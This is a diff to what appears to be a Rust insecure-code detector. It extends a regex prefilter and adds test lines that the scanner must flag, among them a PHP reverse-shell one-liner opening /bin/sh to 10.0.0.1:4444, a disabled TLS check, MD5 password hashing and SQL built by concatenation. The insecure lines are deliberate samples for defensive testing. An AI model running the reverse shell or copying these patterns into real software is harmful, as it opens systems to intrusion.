@@ -112,7 +112,7 @@ static ALL: LazyLock<Vec<Option<Regex>>> = LazyLock::new(|| {
 
 /// Which patterns can be in a line at all: one pass over it instead of seventeen.
 static ANY: LazyLock<Option<Regex>> = LazyLock::new(|| {
-    Regex::new(r"(?i)(?:verify|unauthorized|trustall|allow_all_host|invalid_|check_hostname|certificatevalid|certificatecustom|md5|sha1|select|insert\s|update\s|delete\s|debug|loads?\(|unserialize|objectinput|jsonpickle|eval|exec|function\s*\(|os\.(?:system|popen|umask|removeall)|subprocess|shell_exec|passthru|system\(|chmod|0o666|from_mode|s_irwxo|ecb|des3?\.|cipher|arc4|blowfish|random|rand\(|rmtree|rm(?:dir)?sync|fs\.rm|rimraf|rm_rf|remove|deleterecursively|popen|command::new|spawn|check_call|socket|net\.|drop\s|truncate\s)").ok()
+    Regex::new(r"(?i)(?:verify|unverified|sockopen|unauthorized|trustall|allow_all_host|invalid_|check_hostname|certificatevalid|certificatecustom|md5|sha1|select|insert\s|update\s|delete\s|debug|loads?\(|unserialize|objectinput|jsonpickle|eval|exec|function\s*\(|os\.(?:system|popen|umask|removeall)|subprocess|shell_exec|passthru|system\(|chmod|0o666|from_mode|s_irwxo|ecb|des3?\.|cipher|arc4|blowfish|random|rand\(|rmtree|rm(?:dir)?sync|fs\.rm|rimraf|rm_rf|remove|deleterecursively|popen|command::new|spawn|check_call|socket|net\.|drop\s|truncate\s)").ok()
 });
 
 pub(super) fn judge(line: &str) -> Vec<(&'static str, Severity, Range<usize>)> {
@@ -159,6 +159,8 @@ mod tests {
         for (line, rule) in [
             ("r = requests.get(url, verify=False)", "tls_verification_off"),
             ("const agent = new https.Agent({ rejectUnauthorized: false })", "tls_verification_off"),
+            ("context = ssl._create_unverified_context()", "tls_verification_off"),
+            ("$s=fsockopen('10.0.0.1',4444);$p=proc_open('/bin/sh -i',$d,$s);", "reverse_shell"),
             ("h = hashlib.md5(password.encode()).hexdigest()", "weak_password_hash"),
             ("cur.execute(f\"SELECT * FROM users WHERE name = '{name}'\")", "sql_by_concatenation"),
             ("db.query(\"SELECT * FROM t WHERE id = \" + id)", "sql_by_concatenation"),
